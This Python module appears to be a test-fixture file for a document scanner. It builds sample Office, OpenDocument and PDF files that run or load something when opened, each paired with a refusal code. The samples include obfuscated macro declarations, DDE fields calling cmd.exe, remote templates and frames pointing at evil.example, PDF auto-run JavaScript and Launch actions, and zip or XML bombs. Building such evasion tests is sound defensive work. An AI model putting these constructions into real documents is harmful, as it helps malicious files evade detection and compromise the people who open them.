"""Documents with code or external content, which run or load something when opened."""

import zlib

from .document_samples import (
    OLE,
    SCRIPT,
    archive,
    content_types,
    ending_of_kind,
    field,
    object_stream,
    odf,
    office,
    part_of_kind,
    pdf,
    related,
    relationship,
    stream,
    word,
)

# The word that begins a stream, elsewhere; and references to what a reader looks up.
UNUSUAL_DECLARATIONS = {
    "a string": b"/Type/ObjStm/First 4/X(stream)/N 1",
    "a comment": b"/Type/ObjStm/First 4%stream\n/N 1",
    "a name": b"/Type/ObjStm/First 4/stream 1/N 1",
    "references": b"/Type 8 0 R/First 7 0 R/N 1",
    "one reference": b"/First 7 0 R/N 1",
}


def by_differences(content: bytes, width: int = 8) -> bytes:
    """A stream of objects with a filter for pictures: a byte before each row of so many."""
    padded = b"9 0 " + content + b" " * (-len(b"9 0 " + content) % width)
    rows = (padded[start : start + width] for start in range(0, len(padded), width))
    packed = zlib.compress(b"".join(b"\0" + row for row in rows))
    options = b"/DecodeParms<</Predictor 12/Columns %d>>" % width
    return stream(b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode" + options, packed)


def with_code() -> dict[str, tuple[str, str, bytes]]:
    """Documents that run or load something: description -> (code of the refusal, ending, bytes)."""
    macros, objects = "document_macros", "document_objects"
    loads, script, unreadable = "document_loads_parts", "document_script", "document_unreadable"
    vba = "application/vnd.ms-office.vbaProject"
    enabled = "application/vnd.ms-word.document.macroEnabled.main+xml"
    renamed = archive(
        ("[Content_Types].xml", content_types(part_of_kind("/word/document.xml", enabled))),
        ("word/document.xml", "<w/>"),
    )
    in_utf16 = content_types(part_of_kind("/a.bin", vba)).replace('<?xml version="1.0"?>', "")
    hidden = content_types(part_of_kind("/a.bin", vba.replace("vba", "&#118;ba")))
    named = '<!DOCTYPE d [<!ENTITY e "v">]>' + content_types(part_of_kind("/a", "&e;baProject"))
    second = word("", ("[content_types].xml", content_types(part_of_kind("/a.bin", vba))))
    within = word("", ("word/embeddings/a.bin", office("xlsx", ("xl/vbaProject.bin", b"a"))))
    deep = word("")
    for _level in range(4):
        deep = word("", ("word/embeddings/a.docx", deep))
    template = relationship("attachedTemplate", "https://evil.example/a.dotm")
    disguised = template.replace("<Relationship", '<Relationship xmlns:x="x" x:Type="hyperlink"')
    js = b"<</OpenAction 2 0 R>>"
    return {
        "Word whose macros have another name": (
            macros,
            "docx",
            word("", ("word/evil.bin", b"a"), types=part_of_kind("/word/evil.bin", vba)),
        ),
        "Word whose macros are declared by their ending": (
            macros,
            "docx",
            word("", ("word/evil.dat", b"a"), types=ending_of_kind("dat", vba)),
        ),
        "Word with macros, renamed": (macros, "docx", renamed),
        "Word that declares macros in UTF-16": (
            macros,
            "docx",
            archive(
                ("[Content_Types].xml", in_utf16.encode("utf-16")), ("word/document.xml", "<w/>")
            ),
        ),
        "Word that declares macros by references": (
            macros,
            "docx",
            archive(("[Content_Types].xml", hidden), ("word/document.xml", "<w/>")),
        ),
        "Word that declares macros by an entity": (
            unreadable,
            "docx",
            archive(("[Content_Types].xml", named), ("word/document.xml", "<w/>")),
        ),
        "Word with two lists of parts": (macros, "docx", second),
        "Word that relates to macros": (
            macros,
            "docx",
            word("", related(relationship("vbaProject", "a.bin", "Internal"))),
        ),
        "Word with a workbook with macros": (macros, "docx", within),
        "Word with documents in documents in documents": (unreadable, "docx", deep),
        "Word with an old object under any name": (
            objects,
            "docx",
            word("", ("word/media/a.png", OLE)),
        ),
        "Word with a program": (objects, "docx", word("", ("word/media/a.png", b"MZ" + bytes(99)))),
        "Word with a control": (objects, "docx", word("", ("word/activeX/activeX1.xml", "<ocx/>"))),
        "Word that relates to a control": (
            objects,
            "docx",
            word("", related(relationship("control", "a.xml", "Internal"))),
        ),
        "Word with a template of a stranger's": (loads, "docx", word("", related(template))),
        "Word with a template that looks like a link": (
            loads,
            "docx",
            word("", related(disguised)),
        ),
        "Word with a template of a server": (
            loads,
            "docx",
            word("", related(relationship("attachedTemplate", "file:///\\\\evil\\a.dotm"))),
        ),
        "Word with a template by escapes": (
            loads,
            "docx",
            word("", related(relationship("attachedTemplate", "%68ttp://evil.example/a.dotm"))),
        ),
        "Word with an object of a stranger's": (
            loads,
            "docx",
            word("", related(relationship("oleObject", "mhtml:https://evil.example/!x-usc:"))),
        ),
        "Word with a template by broken lines": (
            loads,
            "docx",
            word("", related(relationship("attachedTemplate", "ht&#10;tp://evil.example/a.dotm"))),
        ),
        "Word with a frame": (
            loads,
            "docx",
            word("", related(relationship("frame", "//evil.example/a"))),
        ),
        "Word with DDE": (loads, "docx", word(field(" DDEAUTO c:\\\\cmd.exe"))),
        "Word with DDE in pieces": (loads, "docx", word(field(" DD", "EAUTO c:\\\\cmd.exe"))),
        "Word with DDE in a simple field": (
            loads,
            "docx",
            word('<w:fldSimple w:instr=" dde cmd"/>'),
        ),
        "Word with DDE behind blanks in a part of another name": (
            loads,
            "docx",
            word("", ("word/other.dat", " " * 70_000 + field("DDEAUTO cmd").replace("w:", ""))),
        ),
        "Word with a list that is no XML": (
            unreadable,
            "docx",
            archive(("[Content_Types].xml", "<Types"), ("word/document.xml", "<w></v>")),
        ),
        "Word that is a bomb": (unreadable, "docx", word("", ("word/a.xml", b" " * 70_000_000))),
        "Word of a million elements": (unreadable, "docx", word("<a/>" * 1_000_001)),
        "Excel with a sheet of macros": (
            macros,
            "xlsx",
            office("xlsx", ("xl/macrosheets/sheet1.xml", "<a/>")),
        ),
        "Excel with a sheet of macros elsewhere": (
            macros,
            "xlsx",
            office(
                "xlsx",
                types=part_of_kind(
                    "/xl/worksheets/a.xml", "application/vnd.ms-excel.macrosheet+xml"
                ),
            ),
        ),
        "Excel with DDE": (
            loads,
            "xlsx",
            office(
                "xlsx", ("xl/a.xml", '<externalLink><ddeLink ddeService="cmd"/></externalLink>')
            ),
        ),
        "PowerPoint that starts a program": (
            objects,
            "pptx",
            office("pptx", ("ppt/slides/a.xml", '<p><a action="ppaction://program"/></p>')),
        ),
        "PowerPoint that runs a macro": (
            macros,
            "pptx",
            office("pptx", ("ppt/slides/a.xml", '<p><a action="ppaction://macro?name=a"/></p>')),
        ),
        "Writer with macros": (macros, "odt", odf("text", "", ("Basic/Standard/a.xml", "<a/>"))),
        "Writer with a chart with macros": (
            macros,
            "odt",
            odf("text", "", ("Object 1/Scripts/a.py", "a")),
        ),
        "Writer with a listener": (
            macros,
            "odt",
            odf("text", '<script:event-listener xlink:href="a"/>'),
        ),
        "Writer with a script": (
            macros,
            "odt",
            odf("text", '<office:script script:language="a"/>'),
        ),
        "Writer with a link to a macro": (
            macros,
            "odt",
            odf("text", '<text:a xlink:href="vnd.sun.star.script:a.py$b?language=Python"/>'),
        ),
        "Writer with a stranger's frame": (
            loads,
            "odt",
            odf("text", '<draw:floating-frame xlink:href="https://evil.example/"/>'),
        ),
        "Writer with DDE": (loads, "odt", odf("text", "<text:dde-connection-decl/>")),
        "Writer with an old object": (objects, "odt", odf("text", "", ("Object 1", OLE))),
        "Impress that starts a program": (
            objects,
            "odp",
            odf("presentation", '<presentation:event-listener presentation:action="execute"/>'),
        ),
        "Writer that is protected": (
            unreadable,
            "odt",
            archive(
                ("mimetype", "application/vnd.oasis.opendocument.text"),
                ("content.xml", b"\x91\x02" * 99),
            ),
        ),
        "PDF with a script": (script, "pdf", pdf(js, SCRIPT)),
        "PDF with a script by escapes": (
            script,
            "pdf",
            pdf(js, SCRIPT.replace(b"/Java", b"/#4a#61v#61")),
        ),
        "PDF with a script in packed objects": (script, "pdf", pdf(js, object_stream(SCRIPT))),
        "PDF with a script in objects packed without their kind": (
            script,
            "pdf",
            pdf(js, object_stream(SCRIPT, kind=b"/Type 5 0 R")),
        ),
        "PDF with a script by escapes in packed objects": (
            script,
            "pdf",
            pdf(js, object_stream(SCRIPT.replace(b"J", b"#4A"), kind=b"/Type/Obj#53tm")),
        ),
        "PDF with a script in packed objects with a comment": (
            script,
            "pdf",
            pdf(
                js,
                stream(b"/N 1/First%x\n4/Filter/FlateDecode", zlib.compress(b"9 0 " + SCRIPT)),
            ),
        ),
        **{
            f"PDF with a script in packed objects declared with {how}": (
                script,
                "pdf",
                pdf(js, stream(entries + b"/Filter/FlateDecode", zlib.compress(b"9 0 " + SCRIPT))),
            )
            for how, entries in UNUSUAL_DECLARATIONS.items()
        },
        "PDF whose packed objects are written by differences": (
            unreadable,
            "pdf",
            pdf(js, by_differences(SCRIPT)),
        ),
        "PDF with a script behind a comment": (script, "pdf", pdf(js, b"%(https://a\n" + SCRIPT)),
        "PDF that starts a program": (
            script,
            "pdf",
            pdf(b"<</OpenAction<</S/Launch/F(cmd.exe)>>>>"),
        ),
        "PDF with a script for a film": (script, "pdf", pdf(js, b"<</S/Rendition/JS(a)>>")),
        "PDF with Flash": (script, "pdf", pdf(b"<</Subtype/RichMedia>>")),
        "PDF with a form of scripts": (script, "pdf", pdf(b"<</AcroForm<</XFA [(a) 3 0 R]>>>>")),
        "PDF whose objects are packed twice": (
            unreadable,
            "pdf",
            pdf(
                js,
                stream(
                    b"/Type/ObjStm/Filter[/FlateDecode/FlateDecode]",
                    zlib.compress(zlib.compress(SCRIPT)),
                ),
            ),
        ),
        "PDF whose objects are packed strangely": (
            unreadable,
            "pdf",
            pdf(js, stream(b"/Type/ObjStm/Filter/ASCIIHexDecode", SCRIPT.hex().encode())),
        ),
        "PDF whose objects are a bomb": (
            unreadable,
            "pdf",
            pdf(js, object_stream(b" " * 70_000_000)),
        ),
    }
